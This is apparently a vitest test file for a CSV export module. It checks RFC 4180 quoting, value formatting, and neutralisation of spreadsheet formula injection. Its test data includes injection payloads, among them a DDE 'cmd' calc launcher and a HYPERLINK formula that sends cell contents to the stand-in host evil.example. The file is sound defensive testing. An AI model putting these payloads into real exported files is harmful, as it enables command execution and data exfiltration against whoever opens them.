import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvHeader, csvLines, csvText } from '../../netlify/functions/_lib/http/csv.ts'
import { csvRows, parseCsv } from '../support/csv.ts'

const cell = (value: string): string => csvLines(['a'], [{ a: value }])

test('a file is a header and a line for each row, every one of them ended by LF alone', () => {
  const rows = [
    { b: 1, a: 'x' },
    { a: 'y', b: 2 },
  ]
  expect(csvText(['a', 'b'], rows)).toBe('a,b\nx,1\ny,2\n')
  expect(csvText(['a', 'b'], [])).toBe('a,b\n')
  expect(csvText(['a', 'b'], rows)).toBe(
    csvHeader(['a', 'b']) + csvLines(['a', 'b'], rows.slice(0, 1)) + csvLines(['a', 'b'], rows.slice(1)),
  )
})

test('a cell is quoted where RFC 4180 says so, and nowhere else', () => {
  expect(
    csvLines(
      ['a', 'b', 'c', 'd', 'e'],
      [{ a: 'x,y', b: 'say "no"', c: 'two\nlines', d: 'a\rb', e: "plain 'text'; ü 漢 🙂" }],
    ),
  ).toBe(`"x,y","say ""no""","two\nlines","a\rb",plain 'text'; ü 漢 🙂\n`)
})

test('times are ISO 8601, truth is a word, nothing is empty, and columns that were not asked for stay out', () => {
  const row = {
    at: new Date(Date.UTC(2026, 10, 2, 3, 4, 5, 6)),
    yes: true,
    no: false,
    none: null,
    empty: '',
    secret: 'x',
  }
  expect(csvLines(['at', 'yes', 'no', 'none', 'empty'], [row])).toBe('2026-11-02T03:04:05.006Z,true,false,,\n')
})

describe('formulas', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '-',
    '-1e5',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '＝1',
    '＋1',
    '－1',
    '＠A1',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
  ])('%j is text that nothing runs', (payload) => {
    expect(parseCsv(cell(payload))).toEqual([[`'${payload}`]])
  })

  test.each(['a=1', '1-2', "'=1", 'x\n=1', '2026-11-02', 'user@example.com', 'a b', ' a'])(
    '%j stays as it is',
    (text) => {
      expect(parseCsv(cell(text))).toEqual([[text]])
    },
  )

  test('our own figures below zero stay numbers', () => {
    expect(csvLines(['a', 'b', 'c'], [{ a: 2e-7, b: -1e-10, c: 1_500_000 }])).toBe('0.0000002,-0.0000000001,1500000\n')
    const row = { a: -3, b: -0.5, c: -4n, d: '-12.5', e: '-7', f: '0.00000123' }
    expect(csvLines(['a', 'b', 'c', 'd', 'e', 'f'], [row])).toBe('-3,-0.5,-4,-12.5,-7,0.00000123\n')
  })

  test('whatever is stored, no cell begins like a formula, and what does not is kept to the letter', () => {
    const texts = fc.oneof(fc.string({ unit: 'binary' }), fc.stringMatching(/^[=+\-@\t\r\n ",a1＝.]{0,6}$/))
    fc.assert(
      fc.property(fc.array(fc.tuple(texts, texts), { minLength: 1 }), (rows) => {
        const read = parseCsv(
          csvLines(
            ['a', 'b'],
            rows.map(([a, b]) => ({ a, b })),
          ),
        )
        expect(read).toHaveLength(rows.length)
        for (const [index, cells] of read.entries()) {
          for (const [at, found] of cells.entries()) {
            if (!/^-\d+(\.\d+)?$/.test(found)) expect(found).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/)
            expect([rows[index]?.[at], `'${rows[index]?.[at]}`]).toContain(found)
          }
        }
      }),
      { numRuns: 2_000 },
    )
  })
})

test('rows are read back by column', () => {
  expect(csvRows('a,b\n1,"x,\n""y"""\n')).toEqual([{ a: '1', b: 'x,\n"y"' }])
})
